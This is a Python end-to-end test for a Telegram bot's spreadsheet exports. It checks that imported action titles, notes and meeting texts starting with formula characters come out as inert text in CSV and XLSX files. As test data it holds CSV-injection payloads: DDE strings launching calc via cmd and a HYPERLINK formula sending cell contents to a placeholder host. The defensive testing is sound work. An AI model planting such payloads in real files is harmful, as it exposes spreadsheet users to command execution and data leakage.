"""Every spreadsheet and CSV the bot sends, asked for as people ask for them, with formula-like
action titles, notes and meeting texts in the data: no cell of any file may start with a formula
character unless it is kept as text (a leading apostrophe in a CSV; in an XLSX a string cell
marked «quotePrefix», never a formula). The titles arrive through the bot's own import; notes
and a meeting are seeded (they come from other features).

The check here is written apart from the bot's writer (bot/services/spreadsheet.py), so a
writer that forgot a trigger character fails it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

from openpyxl import load_workbook

from storage.models import (
    Action,
    ActionStatus,
    Meeting,
    PollTable,
    Role,
    TableKind,
    UpdateNote,
    UpdateSource,
)
from tests.e2e.harness import BotUnderTest
from tests.factories import add_comune, add_member, add_update, link_group, make_union
from tests.fakes.fake_world import FakeMessage, FakeUser

# What makes Excel, LibreOffice or Google Sheets evaluate a cell (OWASP "CSV Injection"), also
# after leading spaces, and the full-width forms some spreadsheets accept.
TRIGGERS = set("=+-@\t\r\n\x00") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}

HOSTILE_TITLES = {
    "X1": '=HYPERLINK("http://example.invalid/?d="&A1;"Dettagli")',
    "X2": "=cmd|' /C calc'!A0",
    "X3": "+1+1",
    "X4": "-2+3+cmd|' /C calc'!A0",
    "X5": "@SUM(1+1)*cmd|' /C calc'!A0",
    "X6": "\uff1d1+1",
}
# Texts the import cannot carry (it trims whitespace): seeded straight into the database.
SEEDED_TITLES = {"S1": "\t=1+1", "S2": "\r=1+1", "S3": "  =1+1"}
HOSTILE_NOTE = '=HYPERLINK("http://example.invalid";"clic")'
HOSTILE_GROUP_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _unquoted_formula(text: str) -> bool:
    stripped = text.lstrip(" \u00a0")
    return bool(stripped) and (text[0] in TRIGGERS or stripped[0] in TRIGGERS)


def check_csv(content: bytes, name: str) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), name
    rows = list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline=""), delimiter=";"))
    for row in rows:
        for cell in row:
            assert not _unquoted_formula(cell), (name, cell)
    return rows


def check_xlsx(content: bytes, name: str) -> dict[str, list[tuple[object, ...]]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                xml = archive.read(member)
                assert not re.search(rb"<f[ >]", xml), (name, member, "a formula element")
    book = load_workbook(io.BytesIO(content))
    sheets = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _unquoted_formula(cell.value):
                    assert cell.quotePrefix, (name, sheet.title, cell.coordinate, cell.value)
        sheets[sheet.title] = list(sheet.iter_rows(values_only=True))
    return sheets


def _import_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["codice", "titolo", "settore", "comune", "responsabile"])
    for code, title in HOSTILE_TITLES.items():
        writer.writerow([code, title, "=1+1", "Canossa", "@ufficio"])
    return out.getvalue().encode("utf-8")


async def _document(bot: BotUnderTest, user: FakeUser, seen: int) -> list[tuple[str, bytes]]:
    await bot.settle()
    files = []
    for message in bot.fake.sent_to(user)[seen:]:
        if message.document is not None:
            files.append((message.document.file_name or "", message.document.content))
    assert files, [m.text for m in bot.fake.sent_to(user)[seen:]]
    return files


async def _press_for_files(
    bot: BotUnderTest, user: FakeUser, message: FakeMessage, button: str
) -> list[tuple[str, bytes]]:
    seen = len(bot.fake.sent_to(user))
    press = await user.press(message, button)
    await press.answered()
    return await _document(bot, user, seen)


async def test_no_file_the_bot_sends_carries_a_live_formula(bot: BotUnderTest) -> None:
    fake, now = bot.fake, bot.clock.now()
    carla = fake.add_user("Carla", "Coordinatrice")
    sindaco = fake.add_user("Sara", "Sindaca")
    sindaco.has_started = True  # the file comes in private
    political = fake.create_group("Tavolo politico", carla, members=[sindaco])
    political.bot_status = "member"
    async with bot.db.transaction() as session:
        world = await make_union(session, name="Unione Val d'Enza", now=now)
        canossa = await add_comune(session, world, "Canossa", now=now)
        await add_member(
            session,
            world,
            role=Role.STAFF,
            name="Carla",
            coordinator=True,
            telegram_user_id=carla.id,
            now=now,
        )
        mayor = await add_member(
            session,
            world,
            role=Role.SINDACO,
            name="Sara",
            comuni=[canossa],
            telegram_user_id=sindaco.id,
            now=now,
        )
        await link_group(session, world, table=TableKind.POLITICAL, chat_id=political.id, now=now)
        seeded = [
            Action(
                union_id=world.union.id,
                code=code,
                title=title,
                municipality_id=canossa.id,
                status=ActionStatus.NOT_STARTED,
                progress=0,
                created_at=now,
                updated_at=now,
            )
            for code, title in SEEDED_TITLES.items()
        ]
        session.add_all(seeded)
        await session.flush()
        await add_update(
            session,
            seeded[0],
            mayor,
            status=ActionStatus.ONGOING,
            progress=20,
            at=now,
            note=HOSTILE_NOTE,
        )
        session.add(
            UpdateNote(
                union_id=world.union.id,
                member_id=mayor.id,
                municipality_id=canossa.id,
                source=UpdateSource.GROUP_REPLY,
                text=HOSTILE_GROUP_NOTE,
                chat_id=political.id,
                message_id=1,
                created_at=now,
            )
        )
        session.add(
            Meeting(
                union_id=world.union.id,
                table=PollTable.BOTH,
                title="=1+1",
                place="+39 0522 000000",
                starts_at=now + timedelta(days=7),
                ends_at=now + timedelta(days=7, hours=2),
                ics_uid="hostile@test",
                created_at=now,
            )
        )

    # The hostile titles come in through the bot's own import.
    await carla.send_document("azioni.csv", _import_csv(), mime_type="text/csv")
    await bot.settle()
    preview = fake.last_sent(carla)
    assert "6 azioni" in (preview.text or ""), preview.text
    await (await carla.press(preview, "✅ Conferma")).answered()
    await bot.settle()

    files: list[tuple[str, bytes]] = []
    await carla.send("/azioni")
    await bot.settle()
    listing = fake.last_sent(carla)
    for button in ("📥 Modello", "📤 CSV", "📤 Excel"):
        files += await _press_for_files(bot, carla, listing, button)
    await carla.send("/esporta")
    await bot.settle()
    menu = fake.last_sent(carla)
    for button in ("📤 Excel", "📤 CSV"):
        files += await _press_for_files(bot, carla, menu, button)
    await sindaco.send("/riepilogo", chat=political)
    await bot.settle()
    summary = next(m for m in fake.sent_to(political) if "📤 Foglio di calcolo" in m.button_texts)
    files += await _press_for_files(bot, sindaco, summary, "📤 Foglio di calcolo")

    names = [name for name, _content in files]
    assert names[:3] == ["modello_azioni_paes.xlsx", "azioni_paes.csv", "azioni_paes.xlsx"]
    assert [n.rsplit(".", 1)[1] for n in names[3:]] == ["xlsx", "csv", "csv", "xlsx"], names
    texts: dict[str, str] = {}
    for name, content in files:
        if name.endswith(".csv"):
            cells = [c for row in check_csv(content, name) for c in row]
        else:
            cells = [
                str(c)
                for rows in check_xlsx(content, name).values()
                for row in rows
                for c in row
                if c is not None
            ]
        texts[name] = "\n".join(cells)
    # Not vacuous: the hostile texts are in the files, kept as text.
    actions_csv = texts["azioni_paes.csv"]
    for title in HOSTILE_TITLES.values():
        assert "'" + title in actions_csv.split("\n"), title
    assert "'\t=1+1" in actions_csv.split("\n")
    assert "=cmd|' /C calc'!A0" in texts["azioni_paes.xlsx"].split("\n")
    export_xlsx, export_csv, notes_csv = names[3], names[4], names[5]
    assert HOSTILE_NOTE in texts[export_xlsx].split("\n")
    assert HOSTILE_GROUP_NOTE in texts[export_xlsx].split("\n")
    assert "=1+1" in texts[export_xlsx].split("\n")  # the meeting's title
    assert "'+39 0522 000000" not in texts[export_xlsx]  # an XLSX keeps the text exact
    assert "'" + HOSTILE_TITLES["X2"] in texts[export_csv].split("\n")
    assert "'" + HOSTILE_GROUP_NOTE in texts[notes_csv].split("\n")


async def test_an_exported_csv_comes_back_as_the_same_actions(bot: BotUnderTest) -> None:
    """The apostrophe that keeps «=1+1» from running is the export's, not the title's: the
    coordinator re-imports the CSV the bot gave and nothing changes."""
    fake, now = bot.fake, bot.clock.now()
    carla = fake.add_user("Carla", "Coordinatrice")
    async with bot.db.transaction() as session:
        world = await make_union(session, name="Unione Val d'Enza", now=now)
        await add_comune(session, world, "Canossa", now=now)
        await add_member(
            session,
            world,
            role=Role.STAFF,
            name="Carla",
            coordinator=True,
            telegram_user_id=carla.id,
            now=now,
        )
    await carla.send_document("azioni.csv", _import_csv(), mime_type="text/csv")
    await bot.settle()
    await (await carla.press(fake.last_sent(carla), "✅ Conferma")).answered()
    await carla.send("/azioni")
    await bot.settle()
    ((name, content),) = await _press_for_files(bot, carla, fake.last_sent(carla), "📤 CSV")
    await carla.send_document(name, content, mime_type="text/csv")
    await bot.settle()
    preview = fake.last_sent(carla).text or ""
    assert "6 azioni (6 invariate)" in preview, preview
